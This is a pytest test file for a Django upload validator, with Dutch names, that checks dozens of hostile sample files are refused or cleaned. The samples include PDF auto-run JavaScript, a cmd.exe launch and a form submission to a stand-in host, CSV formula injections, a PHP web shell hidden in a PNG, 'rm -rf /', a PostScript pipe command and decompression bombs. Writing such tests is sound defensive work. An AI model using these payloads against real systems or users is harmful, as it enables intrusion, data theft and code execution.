"""Files that somebody uploads to do harm: each is refused with a sentence, or what was harmful in it is gone."""

import io
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from agreements.documents.checks import checked
from agreements.documents.models import Evidence
from agreements.progress.models import ProgressUpdate
from tests.attack.files import a_pdf, a_png, a_stream, a_zip, an_image, in_an_object_stream
from tests.documents.test_keep_evidence import a_photo
from tests.progress.test_submit_progress import ADDRESS, answers

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
GOOD_PDF, JPEG, PNG = a_pdf(), an_image("JPEG"), an_image("PNG")
OFFICE = a_zip(**{"[Content_Types].xml": b"<Types/>", "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
PROGRAM, LINUX = b"MZ\x90\x00\x03" + bytes(200), b"\x7fELF\x02\x01\x01" + bytes(200)
BOMB = zlib.compress(bytes(100_000_000), 1)
KIND, BROKEN, ACTS, FORMULA = "kunnen wij niet aannemen", "is geen goed", "zit een script", "zit een formule"

NO_SORT = {
    "macro.xlsm": OFFICE,
    "macro.docm": OFFICE,
    "tabel.xlsx": OFFICE,
    "oud.xls": OLD_OFFICE,
    "programma.exe": PROGRAM,
    "script.js": b"alert(1)",
    "opdracht.bat": b"@echo off",
    "pagina.html": b"<script>alert(1)</script>",
    "tekening.svg": b"<svg onload=alert(1)>",
    "archief.zip": a_zip(a=b"b"),
    "snelkoppeling.lnk": b"L\x00\x00\x00",
    "dubbel.pdf.exe": PROGRAM,
    "rapport.pdf ": b"x",
    "rapport.pdf\u202eexe": GOOD_PDF,
    "rapport.pdf%00.exe": PROGRAM,
    "zonder": b"iets",
    ".pdf": GOOD_PDF,
}
DISGUISED = {
    "programma.pdf": PROGRAM,
    "linux.pdf": LINUX,
    "macro.pdf": OFFICE,
    "pagina.pdf": b"<html><script>alert(1)</script></html>%%EOF",
    "voorloop.pdf": b"MZ" + GOOD_PDF,
    "naloop.pdf": GOOD_PDF + a_zip(a=b"programma"),
    "foto.pdf": JPEG,
    "programma.png": PROGRAM,
    "svg.png": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "gif.png": an_image("GIF", mode="P"),
    "jpeg.png": JPEG,
    "tiff.jpg": an_image("TIFF"),
    "webp.jpg": an_image("WEBP"),
    "bmp.jpg": an_image("BMP"),
    "png.jpg": PNG,
    "postscript.jpg": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (r) file\n",
    "icoon.png": an_image("ICO"),
    "programma.csv": PROGRAM,
    "macro.csv": OFFICE,
    "oud.csv": OLD_OFFICE,
    "pagina.csv": b" \n<html><script>alert(1)</script>",
    "rtf.csv": b"{\\rtf1{\\object\\objdata 0105}}",
    "shell.csv": b"#!/bin/sh\nrm -rf /\n",
    "pdf.csv": GOOD_PDF,
    "utf16.csv": "a;b\n1;2\n".encode("utf-16"),
    "nul.csv": b"a;b\x00\n",
    "ansi.csv": b"a;\x1b]2;titel\x07b\n",
}
DAMAGED = {
    "half.pdf": GOOD_PDF[:200],
    "zonder-einde.pdf": GOOD_PDF.replace(b"%%EOF", b""),
    "zonder-paginas.pdf": a_pdf(pages=b"/Count 0"),
    "kapotte-tabel.pdf": GOOD_PDF.replace(b"startxref\n", b"startxref\n9"),
    "op-slot.pdf": a_pdf(
        trailer=b"/Encrypt<</Filter/Standard/V 1/R 2/O(%s)/U(%s)/P -4>>/ID[(a)(a)]" % (b"o" * 32, b"u" * 32)
    ),
    "kringloop.pdf": a_pdf(trailer=b"/Prev 9"),
    "half.png": PNG[:40],
    "zonder-einde.jpg": JPEG[: len(JPEG) // 2],
    "te-groot.png": a_png(width=60_000, height=60_000),
    "te-groot-vak.png": a_png(width=2**31 - 1, height=2**31 - 1),
    "tekstbom.png": a_png((b"zTXt", b"Titel\0\0" + BOMB)),
    "profielbom.png": a_png((b"iCCP", b"icc\0\0" + BOMB), end=False),
}
ACTIVE = {
    "bij-openen.pdf": a_pdf(SCRIPT, root=b"/OpenAction 4 0 R"),
    "verstopt.pdf": a_pdf(b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>", root=b"/OpenAction 4 0 R"),
    "namen.pdf": a_pdf(SCRIPT, root=b"/Names<</JavaScript<</Names[(a)4 0 R]>>>>"),
    "bij-pagina.pdf": a_pdf(SCRIPT, page=b"/AA<</O 4 0 R>>"),
    "bij-link.pdf": a_pdf(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 5 0 R>>", SCRIPT, page=b"/Annots[4 0 R]"
    ),
    "start-programma.pdf": a_pdf(b"<</S/Launch/F(cmd.exe)>>", root=b"/OpenAction 4 0 R"),
    "verstuurt.pdf": a_pdf(b"<</S/SubmitForm/F(https://kwaad.example)>>", root=b"/OpenAction 4 0 R"),
    "haalt-op.pdf": a_pdf(b"<</S/GoToR/F(\\\\\\\\kwaad\\\\map)/D[0/Fit]>>", root=b"/OpenAction 4 0 R"),
    "formulier.pdf": a_pdf(a_stream(b"<xdp/>"), root=b"/AcroForm<</Fields[]/XFA 4 0 R>>"),
    "bijlage.pdf": a_pdf(
        b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
        a_stream(PROGRAM),
        root=b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>",
    ),
    "speld.pdf": a_pdf(b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]>>", page=b"/Annots[4 0 R]"),
    "film.pdf": a_pdf(b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>", page=b"/Annots[4 0 R]"),
    "diep.pdf": in_an_object_stream(SCRIPT),
    "ketting.pdf": a_pdf(b"<</S/URI/URI(https://a.example)/Next 5 0 R>>", SCRIPT, root=b"/OpenAction 4 0 R"),
}
FORMULAS = {
    "formule.csv": b"naam;aantal\n=1+1;2\n",
    "opdracht.csv": b"a;b\n1;=cmd|' /C calc'!A0\n",
    "plus.csv": b"a;b\n1;+cmd|' /C calc'!A0\n",
    "min.csv": b"a;b\n1;-cmd|' /C calc'!A0\n",
    "apenstaart.csv": b"a,b\n1,@SUM(A1)\n",
    "aanhaling.csv": b'a;b\n1;"=HYPERLINK(""https://kwaad.example"")"\n',
    "tab.csv": b"a\tb\n1\t=WEBSERVICE(A1)\n",
    "spatie.csv": b"a;b\n1;  =1+1\n",
    "breed.csv": "a;b\n1;＝1+1\n".encode(),
    "bom.csv": b"\xef\xbb\xbf=1+1;2\n",
}
HOSTILE = {KIND: NO_SORT, BROKEN: DISGUISED | DAMAGED, ACTS: ACTIVE, FORMULA: FORMULAS}
TABLE = [(name, data, sentence) for sentence, files in HOSTILE.items() for name, data in files.items()]


def test_there_are_at_least_sixty() -> None:
    assert len(TABLE) >= 60
    assert len({name for name, _, _ in TABLE}) == len(TABLE)


@pytest.mark.parametrize(
    ("name", "data", "sentence"), TABLE, ids=[row[0].encode("ascii", "ignore").decode() for row in TABLE]
)
def test_it_is_refused_with_a_sentence(name: str, data: bytes, sentence: str) -> None:
    with pytest.raises(ValidationError) as refused:
        checked(name, data)
    [said] = refused.value.messages
    assert sentence in said
    assert "\u202e" not in said


# What is not harmful is taken: else all of the above would prove nothing.


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("gewoon.pdf", GOOD_PDF),
        ("link.pdf", a_pdf(b"<</S/URI/URI(https://a.example)>>", root=b"/OpenAction 4 0 R")),
        ("eerste-pagina.pdf", a_pdf(root=b"/OpenAction[3 0 R/Fit]")),
        ("plat.pdf", in_an_object_stream(b"[3 0 R/Fit]")),
        ("foto.jpg", a_photo()),
        ("plaatje.png", PNG),
        ("lijst.csv", b"naam;bel;verschil\nJan-Steen;+31 35 123;-12,5\nPiet;06-1;- 3\nx@voorbeeld.nl;a=b;\n"),
        ("oud.csv", "straat;é\n".encode("cp1252")),
    ],
)
def test_a_good_file_is_taken(name: str, data: bytes) -> None:
    _, kept = checked(name, data)
    assert kept


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("zip.jpg", JPEG + a_zip(a=b"programma")),
        ("php.png", PNG + b"<?php system($_GET['c']); ?>"),
        ("tekst.png", a_png((b"tEXt", b"Comment\0<script>alert(1)</script>"))),
        ("xmp.png", a_png((b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<script>alert(1)</script>"))),
    ],
)
def test_what_hides_in_an_image_does_not_come_along(name: str, data: bytes) -> None:
    _, kept = checked(name, data)
    for hidden in (b"programma", b"<?php", b"<script>", b"PK\x03\x04"):
        assert hidden not in kept
    Image.open(io.BytesIO(kept)).verify()


def test_in_the_form_it_gets_its_sentence_and_what_was_typed_stays(world, visit):
    bad = SimpleUploadedFile("bij-openen.pdf", ACTIVE["bij-openen.pdf"])
    answer = visit(world.reporter).post(ADDRESS, answers(uploads=bad))
    page = answer.content.decode()
    assert answer.status_code == 422
    assert "In ‘bij-openen.pdf’ zit een script, een formulier of een ander bestand." in page
    assert answers()["explanation"] in page
    assert not Evidence.objects.exists()
    assert not ProgressUpdate.objects.exists()
